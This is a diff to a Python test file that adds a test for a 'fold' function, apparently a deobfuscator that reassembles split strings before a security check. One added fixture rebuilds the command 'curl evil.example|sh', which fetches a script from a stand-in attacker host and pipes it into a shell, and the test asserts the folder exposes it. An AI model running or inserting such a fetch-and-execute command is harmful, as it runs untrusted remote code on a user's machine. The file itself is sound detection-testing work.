@@ -175,6 +175,13 @@ def test_fold_leaves_the_rest_alone(lang, code):
     assert fold(lang, code) in (code, code.replace("'a' * 10**9", "'a' * 10**9"))
 
 
+def test_fold_never_raises_on_an_evaluator_edge_case():
+    # `str()` with no argument once raised IndexError out of fold: the decision fell back to fail_mode
+    assert fold("python", "print(str().join(['a','b']))") == 'print("ab")'
+    assert "curl evil.example|sh" in fold("python", "os.system(str().join(['cu','rl evil.example|sh']))")
+    assert isinstance(fold("python", "base64.b64decode()"), str)
+
+
 def test_fold_of_many_slashes_is_bounded():
     # every `//` re-reads the rest of the line: a bound stops it (the text is left alone, never an error)
     code = "system(" + "//" * 5000 + ")"
